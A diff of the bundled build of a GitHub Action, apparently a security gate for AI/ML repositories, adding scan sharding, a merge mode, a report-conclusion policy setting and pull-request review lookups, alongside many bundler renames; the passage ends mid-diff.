@@ -1,6 +1,7 @@
 import * as os from 'os';
 import os__default, { EOL } from 'os';
-import * as crypto from 'crypto';
+import * as crypto$1 from 'crypto';
+import crypto__default from 'crypto';
 import * as fs from 'fs';
 import { promises, constants as constants$6, existsSync, readFileSync } from 'fs';
 import 'path';
@@ -33,10 +34,10 @@ import require$$1$4 from 'node:dns';
 import require$$5$3 from 'string_decoder';
 import 'child_process';
 import 'timers';
-import { createHash, randomUUID } from 'node:crypto';
+import { createHash, createPublicKey, randomUUID } from 'node:crypto';
 import { stat as stat$1, readFile as readFile$1, realpath, open as open$1, lstat as lstat$1, readdir as readdir$1, readlink, mkdtemp, writeFile as writeFile$1, rm as rm$1 } from 'node:fs/promises';
 import * as nodePath from 'node:path';
-import { resolve as resolve$2, join, normalize as normalize$1, sep as sep$1, isAbsolute, dirname, posix, relative } from 'node:path';
+import { resolve as resolve$2, join, normalize as normalize$1, sep as sep$1, isAbsolute, relative, dirname, posix } from 'node:path';
 import { execFile, spawn } from 'node:child_process';
 import { constants as constants$7, createWriteStream, promises as promises$1, existsSync as existsSync$1 } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -179,7 +180,7 @@ function issueFileCommand(command, message) {
     });
 }
 function prepareKeyValueMessage(key, value) {
-    const delimiter = `ghadelimiter_${crypto.randomUUID()}`;
+    const delimiter = `ghadelimiter_${crypto$1.randomUUID()}`;
     const convertedValue = toCommandValue(value);
     // These should realistically never happen, but just in case someone finds a
     // way to exploit uuid generation let's not allow keys or values that contain
@@ -21635,12 +21636,12 @@ function requireProgressevent () {
 	return progressevent;
 }
 
-var encoding;
-var hasRequiredEncoding;
+var encoding$1;
+var hasRequiredEncoding$1;
 
-function requireEncoding () {
-	if (hasRequiredEncoding) return encoding;
-	hasRequiredEncoding = 1;
+function requireEncoding$1 () {
+	if (hasRequiredEncoding$1) return encoding$1;
+	hasRequiredEncoding$1 = 1;
 
 	/**
 	 * @see https://encoding.spec.whatwg.org/#concept-encoding-get
@@ -21927,10 +21928,10 @@ function requireEncoding () {
 	  }
 	}
 
-	encoding = {
+	encoding$1 = {
 	  getEncoding
 	};
-	return encoding;
+	return encoding$1;
 }
 
 var util$5;
@@ -21948,7 +21949,7 @@ function requireUtil$5 () {
 	  kLastProgressEventFired
 	} = requireSymbols$2();
 	const { ProgressEvent } = requireProgressevent();
-	const { getEncoding } = requireEncoding();
+	const { getEncoding } = requireEncoding$1();
 	const { serializeAMimeType, parseMIMEType } = requireDataUrl();
 	const { types } = require$$0$4;
 	const { StringDecoder } = require$$5$3;
@@ -24157,12 +24158,12 @@ function requireUtil$3 () {
 	return util$3;
 }
 
-var parse$3;
-var hasRequiredParse$1;
+var parse$4;
+var hasRequiredParse$2;
 
-function requireParse$1 () {
-	if (hasRequiredParse$1) return parse$3;
-	hasRequiredParse$1 = 1;
+function requireParse$2 () {
+	if (hasRequiredParse$2) return parse$4;
+	hasRequiredParse$2 = 1;
 
 	const { maxNameValuePairSize, maxAttributeValueSize } = requireConstants$2();
 	const { isCTLExcludingHtab } = requireUtil$3();
@@ -24468,11 +24469,11 @@ function requireParse$1 () {
 	  return parseUnparsedAttributes(unparsedAttributes, cookieAttributeList)
 	}
 
-	parse$3 = {
+	parse$4 = {
 	  parseSetCookie,
 	  parseUnparsedAttributes
 	};
-	return parse$3;
+	return parse$4;
 }
 
 var cookies;
@@ -24482,7 +24483,7 @@ function requireCookies () {
 	if (hasRequiredCookies) return cookies;
 	hasRequiredCookies = 1;
 
-	const { parseSetCookie } = requireParse$1();
+	const { parseSetCookie } = requireParse$2();
 	const { stringify } = requireUtil$3();
 	const { webidl } = requireWebidl();
 	const { Headers } = requireHeaders();
@@ -29041,7 +29042,7 @@ function setOutput(name, value) {
  */
 function setFailed(message) {
     process.exitCode = ExitCode.Failure;
-    error(message);
+    error$4(message);
 }
 /**
  * Writes debug message to user log
@@ -29055,7 +29056,7 @@ function debug(message) {
  * @param message error issue message. Errors will be converted to string via toString()
  * @param properties optional properties to add to the annotation.
  */
-function error(message, properties = {}) {
+function error$4(message, properties = {}) {
     issueCommand('error', toCommandProperties(properties), message instanceof Error ? message.toString() : message);
 }
 /**
@@ -30447,7 +30448,7 @@ function expand(template, context) {
 }
 
 // pkg/dist-src/parse.js
-function parse$2(options) {
+function parse$3(options) {
   let method = options.method.toUpperCase();
   let url = (options.url || "/").replace(/:([a-z]\w+)/g, "{$1}");
   let headers = Object.assign({}, options.headers);
@@ -30513,7 +30514,7 @@ function parse$2(options) {
 
 // pkg/dist-src/endpoint-with-defaults.js
 function endpointWithDefaults(defaults, route, options) {
-  return parse$2(merge(defaults, route, options));
+  return parse$3(merge(defaults, route, options));
 }
 
 // pkg/dist-src/with-defaults.js
@@ -30524,7 +30525,7 @@ function withDefaults$2(oldDefaults, newDefaults) {
     DEFAULTS: DEFAULTS2,
     defaults: withDefaults$2.bind(null, DEFAULTS2),
     merge: merge.bind(null, DEFAULTS2),
-    parse: parse$2
+    parse: parse$3
   });
 }
 
@@ -30585,7 +30586,7 @@ const NullObject = /* @__PURE__ */ (() => {
 /**
  * Parse a `Content-Type` header.
  */
-function parse$1(header, options) {
+function parse$2(header, options) {
     const stopFlags = SEMI_FLAG | (0);
     const len = header.length;
     let valueStart = 0;
@@ -31469,7 +31470,7 @@ async function getResponseData(response) {
   if (!contentType) {
     return response.text().catch(noop$2);
   }
-  const mimetype = parse$1(contentType);
+  const mimetype = parse$2(contentType);
   if (isJSONResponse(mimetype)) {
     let text = "";
     try {
@@ -36139,31 +36140,31 @@ function routeMatcher(paths) {
 // pkg/dist-src/index.js
 var regex = routeMatcher(triggers_notification_paths_default);
 var triggersNotification = regex.test.bind(regex);
-var groups = {};
+var groups$1 = {};
 var createGroups = function(Bottleneck, common) {
-  groups.global = new Bottleneck.Group({
+  groups$1.global = new Bottleneck.Group({
     id: "octokit-global",
     maxConcurrent: 10,
     ...common
   });
-  groups.auth = new Bottleneck.Group({
+  groups$1.auth = new Bottleneck.Group({
     id: "octokit-auth",
     maxConcurrent: 1,
     ...common
   });
-  groups.search = new Bottleneck.Group({
+  groups$1.search = new Bottleneck.Group({
     id: "octokit-search",
     maxConcurrent: 1,
     minTime: 2e3,
     ...common
   });
-  groups.write = new Bottleneck.Group({
+  groups$1.write = new Bottleneck.Group({
     id: "octokit-write",
     maxConcurrent: 1,
     minTime: 1e3,
     ...common
   });
-  groups.notifications = new Bottleneck.Group({
+  groups$1.notifications = new Bottleneck.Group({
     id: "octokit-notifications",
     maxConcurrent: 1,
     minTime: 3e3,
@@ -36215,14 +36216,14 @@ function throttling(octokit, octokitOptions) {
       return;
     }
     initialized = true;
-    if (groups.global == null) {
+    if (groups$1.global == null) {
       createGroups(Bottleneck, common);
     }
-    state.global = state.global ?? groups.global;
-    state.auth = state.auth ?? groups.auth;
-    state.search = state.search ?? groups.search;
-    state.write = state.write ?? groups.write;
-    state.notifications = state.notifications ?? groups.notifications;
+    state.global = state.global ?? groups$1.global;
+    state.auth = state.auth ?? groups$1.auth;
+    state.search = state.search ?? groups$1.search;
+    state.write = state.write ?? groups$1.write;
+    state.notifications = state.notifications ?? groups$1.notifications;
     state.retryLimiter = state.retryLimiter ?? new Bottleneck();
     const events = {};
     const emitter = new Bottleneck.Events(events);
@@ -36330,7 +36331,7 @@ function describeError(error) {
  * Pure (no I/O), so that every event shape is tested without a runner.
  */
 const SHA = /^[0-9a-f]{40}([0-9a-f]{24})?$/;
-function sha(value, what) {
+function sha$1(value, what) {
     if (typeof value !== 'string' || !SHA.test(value))
         throw new ConfigurationError(`the event payload has no valid ${what} (got ${JSON.stringify(value)?.slice(0, 80)})`);
     return value;
@@ -36346,14 +36347,15 @@ function readEvent(eventName, payload, env) {
         // Not on a runner (a local run of the bundle): scan the checkout; there is nothing to report to.
         return { ...common, kind: 'whole-tree', headSha: '', fromFork: false };
     }
-    if ((eventName === 'pull_request' || eventName === 'pull_request_target') && payload.pull_request) {
+    // pull_request_review re-runs the gate when a review is submitted (governance/required-review); same PR shape.
+    if ((eventName === 'pull_request' || eventName === 'pull_request_target' || eventName === 'pull_request_review') && payload.pull_request) {
         const pr = payload.pull_request;
         const headRepo = pr.head?.repo?.full_name;
         return {
             ...common,
             kind: 'pull_request',
-            headSha: sha(pr.head?.sha, 'pull_request.head.sha'),
-            baseSha: sha(pr.base?.sha, 'pull_request.base.sha'),
+            headSha: sha$1(pr.head?.sha, 'pull_request.head.sha'),
+            baseSha: sha$1(pr.base?.sha, 'pull_request.base.sha'),
             pullNumber: Number(pr.number ?? payload.number),
             fromFork: Boolean(pr.head?.repo?.fork) || (typeof headRepo === 'string' && headRepo !== `${owner}/${repo}`),
             ...(typeof pr.changed_files === 'number' ? { changedFiles: pr.changed_files } : {}),
@@ -36363,8 +36365,8 @@ function readEvent(eventName, payload, env) {
         return {
             ...common,
             kind: 'merge_group',
-            headSha: sha(payload.merge_group.head_sha, 'merge_group.head_sha'),
-            baseSha: sha(payload.merge_group.base_sha, 'merge_group.base_sha'),
+            headSha: sha$1(payload.merge_group.head_sha, 'merge_group.head_sha'),
+            baseSha: sha$1(payload.merge_group.base_sha, 'merge_group.base_sha'),
             fromFork: false,
         };
     }
@@ -36385,6 +36387,32 @@ function severityRank(severity) {
 /** True when `severity` is at least as severe as `threshold`. */
 function atLeast(severity, threshold) {
     return severityRank(severity) <= severityRank(threshold);
+}
+
+/** The most shards a scan may be split into (GitHub Actions' matrix allows 256 jobs). */
+const MAX_SHARDS = 256;
+/** Parses `i/n` (the `--shard` flag, the `shard` input); `what` names the source in the error. */
+function parseShard(value, what = '--shard') {
+    const m = /^\s*(\d{1,3})\s*\/\s*(\d{1,3})\s*$/.exec(value);
+    const index = m ? Number(m[1]) : NaN;
+    const total = m ? Number(m[2]) : NaN;
+    if (!m || total < 1 || total > MAX_SHARDS || index < 1 || index > total) {
+        throw new ConfigurationError(`${what} "${value}" is not a shard; expected i/n with 1 <= i <= n <= ${MAX_SHARDS} (e.g. 2/4)`);
+    }
+    return { index, total };
+}
+/**
+ * The shard (1-based) a path belongs to: the first 6 bytes of SHA-256 of the `/`-separated relative path, modulo
+ * the shard count. Depends on nothing but the path, so every job of a matrix agrees without talking.
+ */
+function shardOf(path, total) {
+    if (total <= 1)
+        return 1;
+    const digest = createHash('sha256').update(path, 'utf8').digest();
+    return (digest.readUIntBE(0, 6) % total) + 1;
+}
+function inShard(path, shard) {
+    return !shard || shard.total <= 1 || shardOf(path, shard.total) === shard.index;
 }
 
 /**
@@ -36414,12 +36442,11 @@ function readInputs(get) {
     }
     const scope = get('scope').trim();
     const policy = get('policy').trim();
-    const mode = get('mode').trim();
-    if (mode && mode !== 'scan')
-        throw new ConfigurationError(`input mode "${mode}" is not supported; expected scan`);
-    const shard = get('shard').trim();
-    if (shard && shard !== '1/1')
-        throw new ConfigurationError(`input shard "${shard}" is not supported yet; leave it empty (or 1/1)`);
+    const mode = oneOf$1('mode', get('mode').trim(), ['scan', 'merge'], 'scan');
+    const shardText = get('shard').trim();
+    const shard = shardText ? parseShard(shardText, 'input shard') : undefined;
+    if (shard && shard.total > 1 && mode === 'merge')
+        throw new ConfigurationError('input shard is for the scan jobs; the merge job (mode: merge) takes no shard');
     return {
         ...(policy ? { policy } : {}),
         token: get('token'),
@@ -36429,7 +36456,10 @@ function readInputs(get) {
         comment: oneOf$1('comment', get('comment').trim(), ['always', 'on-failure', 'never'], 'on-failure'),
         annotations: oneOf$1('annotations', get('annotations').trim(), ['check-run', 'workflow-commands', 'both'], 'check-run'),
         sarifFile: relativeFile('sarif-file', get('sarif-file').trim() || 'ai-gate.sarif'),
-        reportFile: 'ai-gate-report.json',
+        reportFile: shard && shard.total > 1 ? `ai-gate-report-${shard.index}-of-${shard.total}.json` : 'ai-gate-report.json',
+        mode,
+        ...(shard && shard.total > 1 ? { shard } : {}),
+        reports: relativeFile('reports', get('reports').trim() || 'ai-gate-reports'),
     };
 }
 
@@ -39525,8 +39555,8 @@ function ruleArea(id) {
 
 // Generated by scripts/generate.mjs from policies/*.yml. Do not edit by hand: edit the YAML and regenerate.
 const BUILTIN_POLICY_TEXT = {
-    recommended: "# yaml-language-server: $schema=./policy.schema.json\n#\n# The built-in `recommended` policy: what a repository gets when it has no policy file, and what a policy\n# file starts from unless it says otherwise (`extends: recommended` is the default).\n#\n# Its stance: block what is exploitable (critical and high findings), show everything else to reviewers,\n# and stay fast by looking only at what the pull request changes.\n#\n# Everything not written here comes from the policy schema (policies/policy.schema.json, generated from\n# src/policy/schema.ts), which is the one place where defaults live. This file states only what differs from\n# the schema, so the two cannot drift apart.\n\n# The root of the chain. Even so, every registered rule that no policy names runs at its default severity:\n# under `recommended` (and `strict`, which extends it) unnamed rules are on. See policies/README.md.\nextends: none\n\n# fail-on: high (the schema's default)\n#   Critical and high findings fail the gate: code that runs when a model is loaded, exposed credentials,\n#   exploitable workflows, personal data. Medium and low findings (risky practice, hygiene) are reported\n#   in the annotations and the PR comment without blocking, so that adopting the gate does not stop a team.\n\n# scope: changed (the schema's default)\n#   A pull request is judged on the files it adds or changes. Findings already on the base branch are not\n#   the author's to fix in this PR; `strict` scans the whole tree instead.\n\n# paths.ignore: nothing (the schema's default)\n#   Ignoring is the repository's decision: test fixtures that hold deliberately unsafe pickles are common,\n#   but their paths differ from one project to the next, and a built-in glob would hide real models that\n#   happen to live under a \"test\" folder. Prefer an exception (with a reason and an expiry) to an ignore.\n\n# limits: the schema's defaults (4 GiB read from any one file, 64 MiB of text)\n#   Large enough for real checkpoints; past a limit the file is reported as partly scanned, never skipped.\n\n# rules: every rule at the default severity its documentation gives.\n#   Name a rule here only to change it for every repository using the built-in policy, for example\n#     model/serialization-format: { allow: [safetensors, onnx, gguf] }\n#   Only registered rule ids are valid (a test checks that this file validates against the registry).\nrules: {}\n",
-    strict: "# yaml-language-server: $schema=./policy.schema.json\n#\n# The built-in `strict` policy, for repositories that ship models or hold regulated data: everything\n# `recommended` checks, blocking on medium findings too, over the whole tree rather than only the change.\n# Use it with `extends: strict` in .github/ai-gate.yml.\n\nextends: recommended\n\n# Medium findings block as well: a pickle-based model format, an action pinned by tag, a container without\n# a USER, a dataset without a card. These are risky practices rather than exploits; a strict project fixes\n# them (or records an exception with a reason and an expiry) instead of letting them pile up.\nfail-on: medium\n\n# Scan every file, not just what the pull request touched: a strict gate also reports what is already on\n# the base branch, so that a repository adopting it sees its whole debt at once. Slower on large trees.\nscope: all\n\n# rules: the same settings as `recommended`.\n#   Tighten a rule here when the whole strict tier should differ, e.g. raise a severity\n#     model/serialization-format: high\n#   Only registered rule ids are valid (a test checks that this file validates against the registry).\nrules: {}\n",
+    recommended: "# yaml-language-server: $schema=./policy.schema.json\n#\n# The built-in `recommended` policy: what a repository gets when it has no policy file, and what a policy\n# file starts from unless it says otherwise (`extends: recommended` is the default).\n#\n# Its stance: block what is exploitable (critical and high findings), show everything else to reviewers,\n# and stay fast by looking only at what the pull request changes.\n#\n# Everything not written here comes from the policy schema (policies/policy.schema.json, generated from\n# src/policy/schema.ts), which is the one place where defaults live. This file states only what differs from\n# the schema, so the two cannot drift apart.\n#\n# Every key, its type and default: docs/policy.md. Worked examples for real repositories (LLM fine-tuning,\n# tabular ML): policies/examples/. Start a repository's own policy with `ai-gate init`.\n\n# The root of the chain. Even so, every registered rule that no policy names runs at its default severity:\n# under `recommended` (and `strict`, which extends it) unnamed rules are on. See policies/README.md.\nextends: none\n\n# fail-on: high (the schema's default)\n#   Critical and high findings fail the gate: code that runs when a model is loaded, exposed credentials,\n#   exploitable workflows, personal data. Medium and low findings (risky practice, hygiene) are reported\n#   in the annotations and the PR comment without blocking, so that adopting the gate does not stop a team.\n\n# scope: changed (the schema's default)\n#   A pull request is judged on the files it adds or changes. Findings already on the base branch are not\n#   the author's to fix in this PR; `strict` scans the whole tree instead.\n\n# paths.ignore: nothing (the schema's default)\n#   Ignoring is the repository's decision: test fixtures that hold deliberately unsafe pickles are common,\n#   but their paths differ from one project to the next, and a built-in glob would hide real models that\n#   happen to live under a \"test\" folder. Prefer an exception (with a reason and an expiry) to an ignore.\n\n# limits: the schema's defaults (4 GiB read from any one file, 64 MiB of text)\n#   Large enough for real checkpoints; past a limit the file is reported as partly scanned, never skipped.\n\n# rules: every rule at the default severity its documentation gives.\n#   Name a rule here only to change it for every repository using the built-in policy, for example\n#     model/serialization-format: { allow: [safetensors, onnx, gguf] }\n#   Only registered rule ids are valid (a test checks that this file validates against the registry).\nrules: {}\n",
+    strict: "# yaml-language-server: $schema=./policy.schema.json\n#\n# The built-in `strict` policy, for repositories that ship models or hold regulated data: everything\n# `recommended` checks, blocking on medium findings too, over the whole tree rather than only the change.\n# Use it with `extends: strict` in .github/ai-gate.yml.\n#\n# Every key, its type and default: docs/policy.md. Worked examples for real repositories (LLM fine-tuning,\n# tabular ML): policies/examples/. Start a repository's own policy with `ai-gate init`.\n\nextends: recommended\n\n# Medium findings block as well: a pickle-based model format, an action pinned by tag, a container without\n# a USER, a dataset without a card. These are risky practices rather than exploits; a strict project fixes\n# them (or records an exception with a reason and an expiry) instead of letting them pile up.\nfail-on: medium\n\n# Scan every file, not just what the pull request touched: a strict gate also reports what is already on\n# the base branch, so that a repository adopting it sees its whole debt at once. Slower on large trees.\nscope: all\n\n# rules: the same settings as `recommended`.\n#   Tighten a rule here when the whole strict tier should differ, e.g. raise a severity\n#     model/serialization-format: high\n#   Only registered rule ids are valid (a test checks that this file validates against the registry).\nrules: {}\n",
 };
 
 /**
@@ -39564,6 +39594,7 @@ function mergeLayers(base, top) {
         rules,
         exceptions: [...base.exceptions, ...top.exceptions],
         limits: { ...base.limits, ...definedOnly(top.limits) },
+        report: { ...base.report, ...definedOnly(top.report ?? {}) },
     };
 }
 function definedOnly(value) {
@@ -39717,6 +39748,18 @@ function buildPolicySchema(rules) {
                     },
                 },
             },
+            report: {
+                description: 'How the gate reports its verdict on GitHub.',
+                type: 'object',
+                additionalProperties: false,
+                properties: {
+                    'conclusion-when-reported': {
+                        description: 'The check run conclusion when the gate passes but reports non-blocking findings: `success`, or `neutral` to mark the PR as "passed with findings" (branch protection accepts both).',
+                        enum: ['success', 'neutral'],
+                        default: 'success',
+                    },
+                },
+            },
         },
     };
 }
@@ -39759,7 +39802,7 @@ var ajv = {exports: {}};
 
 var core$1 = {};
 
-var validate = {};
+var validate$1 = {};
 
 var boolSchema = {};
 
@@ -42209,13 +42252,13 @@ function requireResolve () {
 	return resolve$1;
 }
 
-var hasRequiredValidate;
+var hasRequiredValidate$1;
 
-function requireValidate () {
-	if (hasRequiredValidate) return validate;
-	hasRequiredValidate = 1;
-	Object.defineProperty(validate, "__esModule", { value: true });
-	validate.getData = validate.KeywordCxt = validate.validateFunctionCode = void 0;
+function requireValidate$1 () {
+	if (hasRequiredValidate$1) return validate$1;
+	hasRequiredValidate$1 = 1;
+	Object.defineProperty(validate$1, "__esModule", { value: true });
+	validate$1.getData = validate$1.KeywordCxt = validate$1.validateFunctionCode = void 0;
 	const boolSchema_1 = /*@__PURE__*/ requireBoolSchema();
 	const dataType_1 = /*@__PURE__*/ requireDataType();
 	const applicability_1 = /*@__PURE__*/ requireApplicability();
@@ -42239,7 +42282,7 @@ function requireValidate () {
 	    }
 	    validateFunction(it, () => (0, boolSchema_1.topBoolOrEmptySchema)(it));
 	}
-	validate.validateFunctionCode = validateFunctionCode;
+	validate$1.validateFunctionCode = validateFunctionCode;
 	function validateFunction({ gen, validateName, schema, schemaEnv, opts }, body) {
 	    if (opts.code.es5) {
 	        gen.func(validateName, (0, codegen_1._) `${names_1.default.data}, ${names_1.default.valCxt}`, schemaEnv.$async, () => {
@@ -42671,7 +42714,7 @@ function requireValidate () {
 	        }
 	    }
 	}
-	validate.KeywordCxt = KeywordCxt;
+	validate$1.KeywordCxt = KeywordCxt;
 	function keywordCode(it, keyword, def, ruleType) {
 	    const cxt = new KeywordCxt(it, def, keyword);
 	    if ("code" in def) {
@@ -42730,9 +42773,9 @@ function requireValidate () {
 	        return `Cannot access ${pointerType} ${up} levels up, current level is ${dataLevel}`;
 	    }
 	}
-	validate.getData = getData;
+	validate$1.getData = getData;
 	
-	return validate;
+	return validate$1;
 }
 
 var validation_error = {};
@@ -42790,7 +42833,7 @@ function requireCompile () {
 	const names_1 = /*@__PURE__*/ requireNames();
 	const resolve_1 = /*@__PURE__*/ requireResolve();
 	const util_1 = /*@__PURE__*/ requireUtil();
-	const validate_1 = /*@__PURE__*/ requireValidate();
+	const validate_1 = /*@__PURE__*/ requireValidate$1();
 	class SchemaEnv {
 	    constructor(env) {
 	        var _a;
@@ -44885,7 +44928,7 @@ function requireCore$1 () {
 	(function (exports) {
 		Object.defineProperty(exports, "__esModule", { value: true });
 		exports.CodeGen = exports.Name = exports.nil = exports.stringify = exports.str = exports._ = exports.KeywordCxt = void 0;
-		var validate_1 = /*@__PURE__*/ requireValidate();
+		var validate_1 = /*@__PURE__*/ requireValidate$1();
 		Object.defineProperty(exports, "KeywordCxt", { enumerable: true, get: function () { return validate_1.KeywordCxt; } });
 		var codegen_1 = /*@__PURE__*/ requireCodegen();
 		Object.defineProperty(exports, "_", { enumerable: true, get: function () { return codegen_1._; } });
@@ -46790,7 +46833,7 @@ function requireProperties () {
 	if (hasRequiredProperties) return properties$1;
 	hasRequiredProperties = 1;
 	Object.defineProperty(properties$1, "__esModule", { value: true });
-	const validate_1 = /*@__PURE__*/ requireValidate();
+	const validate_1 = /*@__PURE__*/ requireValidate$1();
 	const code_1 = /*@__PURE__*/ requireCode();
 	const util_1 = /*@__PURE__*/ requireUtil();
 	const additionalProperties_1 = /*@__PURE__*/ requireAdditionalProperties();
@@ -47825,7 +47868,7 @@ function requireAjv () {
 		module.exports.Ajv = Ajv;
 		Object.defineProperty(exports, "__esModule", { value: true });
 		exports.default = Ajv;
-		var validate_1 = /*@__PURE__*/ requireValidate();
+		var validate_1 = /*@__PURE__*/ requireValidate$1();
 		Object.defineProperty(exports, "KeywordCxt", { enumerable: true, get: function () { return validate_1.KeywordCxt; } });
 		var codegen_1 = /*@__PURE__*/ requireCodegen();
 		Object.defineProperty(exports, "_", { enumerable: true, get: function () { return codegen_1._; } });
@@ -47845,7 +47888,7 @@ function requireAjv () {
 
 var ajvExports = /*@__PURE__*/ requireAjv();
 
-var dist = {exports: {}};
+var dist$4 = {exports: {}};
 
 var formats = {};
 
@@ -48146,11 +48189,11 @@ function requireLimit () {
 	return limit;
 }
 
-var hasRequiredDist;
+var hasRequiredDist$4;
 
-function requireDist () {
-	if (hasRequiredDist) return dist.exports;
-	hasRequiredDist = 1;
+function requireDist$4 () {
+	if (hasRequiredDist$4) return dist$4.exports;
+	hasRequiredDist$4 = 1;
 	(function (module, exports) {
 		Object.defineProperty(exports, "__esModule", { value: true });
 		const formats_1 = requireFormats();
@@ -48188,12 +48231,12 @@ function requireDist () {
 		Object.defineProperty(exports, "__esModule", { value: true });
 		exports.default = formatsPlugin;
 		
-	} (dist, dist.exports));
-	return dist.exports;
+	} (dist$4, dist$4.exports));
+	return dist$4.exports;
 }
 
-var distExports = requireDist();
-var addFormats = /*@__PURE__*/getDefaultExportFromCjs(distExports);
+var distExports$3 = requireDist$4();
+var addFormats = /*@__PURE__*/getDefaultExportFromCjs(distExports$3);
 
 /** "Did you mean …?" for mistyped keys, rule ids and values. */
 /** Edit distance counting an adjacent transposition as one edit (`hgih` → `high` is 1). */
@@ -48458,7 +48501,7 @@ function show(value) {
  */
 const DEFAULT_POLICY_FILE = '.github/ai-gate.yml';
 /** A policy is a page of YAML; a megabyte is a mistake (or an attack on the parser). */
-const MAX_POLICY_BYTES = 1024 * 1024;
+const MAX_POLICY_BYTES$1 = 1024 * 1024;
 const MAX_PROBLEM_LINES = 100;
 async function loadPolicy(opts) {
     const name = opts.policyFile ?? DEFAULT_POLICY_FILE;
@@ -48504,8 +48547,8 @@ async function policyBytes(name, opts) {
 }
 function checkSize(data, name) {
     const size = typeof data === 'number' ? data : data.length;
-    if (size > MAX_POLICY_BYTES) {
-        const problem = `${name}: the file is ${size} bytes; a policy may be at most ${MAX_POLICY_BYTES} bytes (1 MiB)`;
+    if (size > MAX_POLICY_BYTES$1) {
+        const problem = `${name}: the file is ${size} bytes; a policy may be at most ${MAX_POLICY_BYTES$1} bytes (1 MiB)`;
         throw new ConfigurationError('1 error in the policy; nothing was scanned.', [problem]);
     }
     return data;
@@ -48569,7 +48612,7 @@ function normalize(value) {
     if (typeof value !== 'object' || Array.isArray(value))
         return value;
     const out = { ...value };
-    for (const key of ['paths', 'rules', 'exceptions', 'limits'])
+    for (const key of ['paths', 'rules', 'exceptions', 'limits', 'report'])
         if (out[key] === null)
             delete out[key];
     const paths = out.paths;
@@ -48612,6 +48655,7 @@ function toLayer(file, doc) {
             line: doc.positionOf(`/exceptions/${index}`)?.line,
         })),
         limits: { maxFileBytes: file.limits?.['max-file-bytes'], maxTextBytes: file.limits?.['max-text-bytes'] },
+        report: { conclusionWhenReported: file.report?.['conclusion-when-reported'] },
     };
 }
 /**
@@ -48652,6 +48696,9 @@ function finish$1(merged, base, source, sha256, opts) {
         limits: {
             maxFileBytes: merged.limits.maxFileBytes ?? schemaDefault(schema, ['limits', 'max-file-bytes']),
             maxTextBytes: merged.limits.maxTextBytes ?? schemaDefault(schema, ['limits', 'max-text-bytes']),
+        },
+        report: {
+            conclusionWhenReported: merged.report?.conclusionWhenReported ?? schemaDefault(schema, ['report', 'conclusion-when-reported']),
         },
     };
 }
@@ -48803,6 +48850,58 @@ function changeBase(opts) {
     };
 }
 
+/** The latest state per reviewer, in the order reviewers first appeared. */
+function latestStates(reviews) {
+    const byLogin = new Map();
+    for (const r of reviews) {
+        if (!r.login)
+            continue;
+        const key = r.login.toLowerCase();
+        if (r.state === 'APPROVED' || r.state === 'CHANGES_REQUESTED')
+            byLogin.set(key, { login: r.login, state: r.state, ...(r.commitId ? { commitId: r.commitId } : {}) });
+        else if (r.state === 'DISMISSED')
+            byLogin.delete(key);
+    }
+    return [...byLogin.values()];
+}
+/** Every review of a pull request (paginated, 100 a page). */
+async function listReviews(client, ref) {
+    const reviews = await client.paginate(client.rest.pulls.listReviews, { owner: ref.owner, repo: ref.repo, pull_number: ref.pullNumber, per_page: 100 });
+    return reviews.map((r) => ({ login: r.user?.login, state: r.state, ...(r.commit_id ? { commitId: r.commit_id } : {}) }));
+}
+/** True for an active member, false for none (404 or pending), undefined when the token may not read it. */
+async function teamMembership(client, team, login) {
+    const [org, slug] = team.replace(/^@/, '').split('/');
+    if (!org || !slug)
+        return undefined;
+    try {
+        const { data } = await client.rest.teams.getMembershipForUserInOrg({ org, team_slug: slug, username: login });
+        return data.state === 'active';
+    }
+    catch (error) {
+        if (statusOf(error) === 404)
+            return false;
+        if (statusOf(error) === 403 || statusOf(error) === 401)
+            return undefined;
+        throw error;
+    }
+}
+/** The lookup handed to the rule through ChangeBase.reviews; each answer is fetched once. */
+function reviewLookup(client, ref) {
+    let latest;
+    const memberships = new Map();
+    return {
+        headSha: ref.headSha,
+        latest: () => (latest ??= listReviews(client, ref).then(latestStates)),
+        isTeamMember: (team, login) => {
+            const key = `${team.toLowerCase()}\0${login.toLowerCase()}`;
+            if (!memberships.has(key))
+                memberships.set(key, teamMembership(client, team, login));
+            return memberships.get(key);
+        },
+    };
+}
+
 /**
  * Decides what to scan for the event: for a pull request or merge group, the policy at the base commit
  * (never the PR's own copy) and the files the change touched; for anything else, the whole tree with the
@@ -48823,7 +48922,7 @@ async function planScan(opts) {
     let text;
     if (client) {
         try {
-            text = await readAtRef(client, ev, policyFile, baseSha, MAX_POLICY_BYTES + 1);
+            text = await readAtRef(client, ev, policyFile, baseSha, MAX_POLICY_BYTES$1 + 1);
         }
         catch (error) {
             throw new ConfigurationError(`could not read the policy ${policyFile} at the base commit ${short} (${describeError(error)}); the PR's own copy is not trusted`);
@@ -48867,6 +48966,10 @@ async function planScan(opts) {
     if (changes)
         await noteMissing(workspace, changes, ev, notes, logger);
     const change = set && client ? changeBase({ client, ev, root: workspace, policyPath: policyFile, changes: set.changes, logger }) : undefined;
+    // A pull request's reviews, read only if governance/required-review asks (a protected path changed).
+    if (change && client && ev.kind === 'pull_request' && ev.pullNumber) {
+        change.reviews = reviewLookup(client, { owner: ev.owner, repo: ev.repo, pullNumber: ev.pullNumber, headSha: ev.headSha });
+    }
     return {
         policyFile,
         policyExplicit: policyText !== null && opts.policyInput !== undefined,
@@ -48897,7 +49000,7 @@ async function noteMissing(root, changes, ev, notes, logger) {
 }
 async function gitShow(root, sha, path) {
     const r = await runGit(root, ['show', `${sha}:${path}`]);
-    return r.ok ? r.stdout.subarray(0, MAX_POLICY_BYTES + 1) : undefined;
+    return r.ok ? r.stdout.subarray(0, MAX_POLICY_BYTES$1 + 1) : undefined;
 }
 
 /**
@@ -49386,7 +49489,8 @@ async function startCheckRun(ctx) {
 async function finishCheckRun(ctx, id, report, notes) {
     const client = ctx.client;
     const out = toCheckOutput(report, {
-        links: links(ctx.ev), runUrl: ctx.ev.runUrl, fullReport: ctx.fullReport, notes, neutralWhenReported: ctx.neutralWhenReported,
+        links: links(ctx.ev), runUrl: ctx.ev.runUrl, fullReport: ctx.fullReport, notes,
+        neutralWhenReported: ctx.neutralWhenReported || report.policy.conclusionWhenReported === 'neutral',
     });
     const base = { owner: ctx.ev.owner, repo: ctx.ev.repo, check_run_id: id };
     const output = { title: out.title, summary: out.summary };
@@ -49502,6 +49606,171 @@ async function publish(ctx, report, check) {
 /** The JSON report is the Report object itself: stable keys, documented in src/report/types.ts. */
 function toJson(report) {
     return `${JSON.stringify(report, null, 2)}\n`;
+}
+
+/** Sets `blocking` on every finding and counts them. A suppressed finding never blocks. */
+function decide(findings, failOn) {
